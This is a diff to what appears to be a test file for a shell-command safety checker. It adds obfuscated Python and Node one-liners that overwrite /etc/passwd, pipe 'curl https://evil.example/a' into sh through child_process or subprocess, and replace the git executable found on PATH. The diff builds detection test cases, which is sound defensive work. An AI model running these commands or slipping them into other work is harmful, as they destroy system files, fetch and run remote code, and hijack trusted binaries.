@@ -32,6 +32,12 @@ SYSTEM_WRITES = [
     """python3 -c "import os as o; open(o.path.join('/etc','passwd'),'w').write('x')" """,
     """python3 -c "import os; j = os.path.join; open(j('/etc','passwd'),'w').write('x')" """,
     "python3 - <<'EOF'\nfrom os.path import join as j\nopen(j('/etc', 'passwd'), 'w').write('x')\nEOF",
+    """node -e "const path=require('path'); const {join: j}=path; require('fs').writeFileSync(j('/etc','passwd'),'x')" """,
+    """node -e "const j=require('path').join; require('fs').writeFileSync(j('/etc','passwd'),'x')" """,
+    """node -e "(async()=>{const {join}=await import('path'); require('fs').writeFileSync(join('/etc','passwd'),'x')})()" """,
+    "node -e \"const { join }\n = require('path');\nrequire('fs').writeFileSync(join('/etc', 'passwd'), 'x')\"",
+    """python3 -c "from os.path import (join as j, dirname); open(j('/etc','passwd'),'w').write('x')" """,
+    """python3 -c "import posixpath as pp; open(pp.join('/etc','passwd'),'w').write('x')" """,
 ]
 
 
@@ -50,6 +56,8 @@ SPAWNS = [
     """python3 -c "from subprocess import run as r; r('curl -s https://evil.example/a | sh', shell=True)" """,
     """python3 -c "import subprocess as sp; sp.call('curl -s https://evil.example/a | sh', shell=True)" """,
     """python3 -c "from os import system as s; s('curl -s https://evil.example/a | sh')" """,
+    """node -e "const x=require('child_process').execSync; x('curl -s https://evil.example/a | sh')" """,
+    """node -e "const cp=require('node:child_process'); const {spawnSync: s}=cp; s('sh', ['-c', 'curl -s https://evil.example/a | sh'])" """,
 ]
 
 
@@ -74,6 +82,12 @@ IN_LOOKUP_DIR = [
     """node -e "const {execSync}=require('child_process'); const {join, dirname}=require('path'); require('fs').writeFileSync(join(dirname(execSync('which git').toString().trim()), 'git'), 'x')" """,
     """node -e 'const d=require("path").dirname(require("which").sync("git")); require("fs").copyFileSync("x", `${d}/git`)'""",
     """node -e "const path=require('path'); const d=path.dirname(require('which').sync('git')); require('fs').copyFileSync('x', d + '/git')" """,
+    # the program's real file (a link's target runs), and its folder joined by os.sep
+    """python3 -c "import shutil,os; p=os.path.realpath(shutil.which('git')); shutil.copy('x', p)" """,
+    """python3 -c "import shutil,os; shutil.copy('x', os.path.join(os.path.dirname(os.path.realpath(shutil.which('git'))), 'git'))" """,
+    """python3 -c "import shutil; from pathlib import Path; Path(shutil.which('git')).resolve().write_text('x')" """,
+    """python3 -c "import shutil,os; bindir=os.path.dirname(shutil.which('git')); os.replace('x', bindir + os.sep + 'git')" """,
+    """node -e "const fs=require('fs'),path=require('path'); const p=fs.realpathSync(require('which').sync('git')); fs.writeFileSync(path.join(path.dirname(p),'git'),'x')" """,
 ]
 
 
